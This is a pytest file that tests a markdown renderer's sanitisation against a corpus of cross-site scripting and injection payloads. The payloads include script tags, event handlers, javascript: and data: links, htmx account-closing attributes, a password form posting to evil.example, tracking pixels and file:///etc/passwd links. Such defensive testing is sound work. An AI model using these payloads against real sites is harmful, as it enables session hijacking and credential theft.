"""Markdown: what the house rules need, and nothing that could do harm, whoever wrote it."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mentorship.web.markdown import rendered

ALLOWED = {
    "p": {"dir"},
    "h2": {"dir"},
    "h3": {"dir"},
    "li": {"dir"},
    "blockquote": {"dir"},
    "ul": set(),
    "ol": {"start"},
    "strong": set(),
    "em": set(),
    "hr": set(),
    "br": set(),
    "a": {"href", "rel"},
}


class Strict(HTMLParser):
    """Finds whatever is not on the list above."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        if self.open:
            self.wrong.append(f"left open: {self.open}")

    def handle_starttag(self, tag: str, given: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED or {name for name, _ in given} - ALLOWED.get(tag, set()):
            self.wrong.append(self.get_starttag_text() or tag)
        if tag == "a":
            self._look(dict(given).get("href") or "")
        if tag not in ("hr", "br"):
            self.open.append(tag)

    def _look(self, address: str) -> None:
        own = address.startswith("/") and not address.startswith("//")
        if address and not own and not address.lower().startswith(("https://", "http://", "mailto:")):
            self.wrong.append(address)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    def handle_pi(self, data: str) -> None:
        self.wrong.append(data)


CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<button hx-post=/account/close hx-trigger=load>x</button>",
    "<div hx-get=/account data-hx-get=/account hx-on:load=alert(1)>x</div>",
    "<p style=position:fixed onclick=alert(1)>x</p>",
    "<!-- comment --><![CDATA[ x ]]><?php x ?><!DOCTYPE x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](relative)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://a.example 'onclick=alert(1)'\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/<script>alert(1)</script>>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>alert(1);//<</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "# <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "{{ 7 * 7 }}{% include 'layouts/base.html' %}",
    "\u202e<script>alert(1)</script>",
    "x" * 5000 + "<script>",
    "[" * 2000 + "x" + "](" * 2000,
    "*" * 3000,
    "> " * 300 + "x",
]


@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
def test_nothing_unsafe_survives(text):
    html = str(rendered(text))
    assert Strict(html).wrong == [], html[:500]
    assert "<script" not in html.lower()


@given(st.text() | st.lists(st.sampled_from([*CORPUS, "\n", " ", "\n\n", "<", "](", "*", '"'])).map("".join))
def test_nothing_unsafe_survives_in_any_mixture(text):
    html = str(rendered(text))
    assert Strict(html).wrong == [], html[:500]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Be kind.", '<p dir="auto">Be kind.</p>'),
        ("# One\n\n## Two\n\n### Three\n\n###### Six", "<h2>One</h2> <h2>Two</h2> <h3>Three</h3> <h3>Six</h3>"),
        ("- a\n- b", "<ul> <li>a</li> <li>b</li> </ul>"),
        ("3. a\n4. b", '<ol start="3"> <li>a</li> <li>b</li> </ol>'),
        ("*so* **much**", "<p><em>so</em> <strong>much</strong></p>"),
        ("one\ntwo", "<p>one<br> two</p>"),
        ("> said", "<blockquote> <p>said</p> </blockquote>"),
        ("---", "<hr>"),
        ("[us](/about)", '<p><a href="/about" rel="noopener noreferrer">us</a></p>'),
        (
            "[x](https://a.example/?b=c&d)",
            '<p><a href="https://a.example/?b=c&amp;d" rel="noopener noreferrer">x</a></p>',
        ),
        ("<a@b.example>", '<p><a href="mailto:a@b.example" rel="noopener noreferrer">a@b.example</a></p>'),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
        ("    not code", "<p>not code</p>"),
        ("perché — “così”", "<p>perché — “così”</p>"),
        ("", ""),
    ],
)
def test_what_rules_need_is_there(text, html):
    found = " ".join(str(rendered(text)).split())
    assert found.replace(' dir="auto"', "") == html.replace(' dir="auto"', "")


def test_each_block_finds_its_own_direction():
    assert 'dir="auto"' in str(rendered("مرحبا"))
